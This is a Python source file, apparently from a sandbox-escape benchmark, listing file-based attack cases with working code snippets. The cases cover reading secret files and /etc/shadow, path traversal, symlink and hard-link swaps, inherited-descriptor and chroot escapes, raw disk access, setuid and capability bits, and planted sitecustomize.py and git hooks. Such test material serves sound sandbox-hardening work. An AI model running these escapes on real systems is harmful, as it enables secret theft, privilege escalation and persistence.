"""Attacks by way of files: reading what is not shown, writing what is not given, planting what acts later."""

from __future__ import annotations

from riallm.bench.attacks.attack import Attack, Proof

_CLIMB = '"../" * 12 + world["secret_file"].lstrip("/")'

FILES: tuple[Attack, ...] = (
    Attack(name="read a key in the home folder", number="1", proof=Proof.SECRET, source="show(world['secret_file'])"),
    Attack(
        name="read the password hashes", number="2", proof=Proof.SAYS, needs="root",
        source="if 'root:' in open('/etc/shadow').read(): through()",
    ),
    Attack(name="read a sibling project", number="3", proof=Proof.SECRET, source="show(world['sibling_file'])"),
    Attack(
        name="list the folder above", number="3", proof=Proof.SECRET,
        source="print(os.listdir(os.path.dirname(world['workspace'])))",
    ),
    Attack(name="climb with dots", number="8", proof=Proof.SECRET, source=f"show({_CLIMB})"),
    Attack(name="write outside", number="4", proof=Proof.MARK, source="mark(world['outside'] + '/mark')"),
    Attack(
        name="append to a file outside", number="4", proof=Proof.MARK, source="mark(world['outside'] + '/existing')"
    ),
    Attack(
        name="write the real workspace", number="4", proof=Proof.MARK,
        source="mark('mark'); mark(world['workspace'] + '/mark')",
    ),
    Attack(name="plant a start file in the home folder", number="4", proof=Proof.MARK, source="mark(world['startup'])"),
    Attack(
        name="symlink that the trusted side writes through", number="5", proof=Proof.MARK, keep=True,
        then_write="door/mark", source="os.symlink(world['outside'], 'door')",
    ),
    Attack(
        name="folder swapped for a symlink", number="6", proof=Proof.MARK, keep=True, then_write="data/mark",
        source="os.unlink('data/file'); os.rmdir('data'); os.symlink(world['outside'], 'data')",
    ),
    Attack(
        name="symlink brought home", number="5", proof=Proof.MARK, keep=True,
        source="os.symlink(world['outside'] + '/existing', 'readme'); os.symlink('../outside', 'up')\n"
        "os.makedirs('a/b'); os.symlink('../../../outside', 'a/b/up')",
    ),
    Attack(
        name="symlink and a file below it brought home", number="6", proof=Proof.MARK, keep=True,
        source="os.rename('link', 'gone') if os.path.islink('link') else None\n"
        "os.makedirs('link', exist_ok=True); mark('link/mark')",
    ),
    Attack(
        name="hard link to a file outside", number="7", proof=Proof.MARK,
        source="os.link(world['outside'] + '/existing', 'hard'); mark('hard')",
    ),
    Attack(
        name="permissions of a file outside", number="4", proof=Proof.CHANGED,
        source="os.chmod(world['outside'] + '/existing', 0o600)",
    ),
    Attack(
        name="times of a file outside", number="4", proof=Proof.CHANGED,
        source="os.utime(world['outside'] + '/existing', (1, 1))",
    ),
    Attack(
        name="attributes of a file outside", number="4", proof=Proof.CHANGED,
        source="os.setxattr(world['outside'] + '/existing', 'user.planted', b'x')",
    ),
    Attack(
        name="size and times of a hidden file", number="1", proof=Proof.SAYS,
        source="found = os.stat(world['secret_file']); through(found.st_size)",
    ),
    Attack(
        name="watch a folder outside", number="1", proof=Proof.SAYS,
        source="if libc.inotify_add_watch(libc.inotify_init(), world['outside'].encode(), 0xfff) >= 0: through()",
    ),
    Attack(
        name="roots of other processes", number="9", proof=Proof.SECRET,
        source="import glob\nfor root in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):\n"
        "    show(root + world['secret_file']); show(root + '/../../' + world['secret_file'])",
    ),
    Attack(
        name="climb out of an inherited descriptor", number="9", proof=Proof.SECRET,
        source="for fd in range(3, 256):\n    try:\n        found = os.open('../' * 12 + world['secret_file'][1:], 0,"
        " dir_fd=fd)\n    except OSError:\n        continue\n    print(os.read(found, 4000))",
    ),
    Attack(
        name="read an inherited descriptor", number="9", proof=Proof.SECRET,
        source="for fd in range(3, 256):\n    try:\n        print(os.pread(fd, 4000, 0))\n"
        "    except OSError:\n        pass",
    ),
    Attack(
        name="climb out of a root of one's own", number="9", proof=Proof.SECRET, needs="root",
        source="os.mkdir('jail'); here = os.open('.', 0); os.chroot('jail'); os.fchdir(here)\n"
        "for _ in range(30): os.chdir('..')\nos.chroot('.'); show(world['secret_file'])",
    ),
    Attack(
        name="make the block device of the disk", number="11", proof=Proof.SAYS, needs="root",
        source="import stat\nos.mknod('disk', stat.S_IFBLK | 0o600, os.makedev(*world['disk'])); os.open('disk', 0)\n"
        "through()",
    ),
    Attack(
        name="open a raw disk", number="11", proof=Proof.SAYS, needs="root",
        source="os.open(world['disk_path'], os.O_RDONLY); through()",
    ),
    Attack(
        name="setuid bit by chmod", number="12", proof=Proof.SETID, keep=True,
        source="open('tool', 'w').close(); os.chmod('tool', 0o4755); through()",
    ),
    Attack(
        name="setuid bit at creation", number="12", proof=Proof.SETID, keep=True,
        source="os.umask(0); os.close(os.open('tool', os.O_CREAT | os.O_WRONLY, 0o6755))",
    ),
    Attack(
        name="setgid bit through a raw call", number="12", proof=Proof.SETID, keep=True,
        source="open('tool', 'w').close(); call(452, 452, -100, ctypes.c_char_p(b'tool'), 0o2755, 0)\n"
        "fd = os.open('tool', os.O_WRONLY); call(91, 52, fd, 0o2755)",
    ),
    Attack(
        name="file capability", number="12", proof=Proof.SETID, keep=True, needs="root",
        source="import struct\nopen('tool', 'w').close()\n"
        "os.setxattr('tool', 'security.capability', struct.pack('<5I', 0x02000001, 1 << 7, 0, 0, 0))",
    ),
    Attack(
        name="file planted in the interpreter's prefix", number="25", proof=Proof.MARK,
        source="mark(world['prefix'] + '/sitecustomize.py')",
    ),
    Attack(
        name="hook planted in the repository", number="52", proof=Proof.MARK, keep=True,
        source="os.makedirs('.git/hooks', exist_ok=True); mark('.git/hooks/post-checkout')",
    ),
    Attack(
        name="configuration of the repository", number="52", proof=Proof.MARK, keep=True, source="mark('.git/config')"
    ),
    Attack(
        name="repository folder exchanged", number="52", proof=Proof.MARK, keep=True,
        source="import shutil\nshutil.copytree('.git', 'git2')\n"
        "try:\n    os.rename('.git', 'git1')\nexcept OSError:\n    shutil.rmtree('.git', ignore_errors=True)\n"
        "os.makedirs('.git', exist_ok=True); mark('.git/config'); mark('.git/commondir')",
    ),
    Attack(
        name="second repository below", number="52", proof=Proof.MARK, keep=True,
        source="os.makedirs('sub/.git/hooks'); mark('sub/.git/config'); mark('sub/.git/hooks/pre-commit')",
    ),
    Attack(
        name="repository pointer below", number="52", proof=Proof.MARK, keep=True,
        source="os.makedirs('sub', exist_ok=True); mark('sub/.git')",
    ),
    Attack(
        name="bare repository", number="52", proof=Proof.MARK, keep=True,
        source="for name in ('objects', 'refs', 'hooks'): os.makedirs('bare/' + name)\n"
        "open('bare/HEAD', 'w').write('ref: refs/heads/main'); mark('bare/config'); mark('bare/hooks/update')",
    ),
)  # fmt: skip
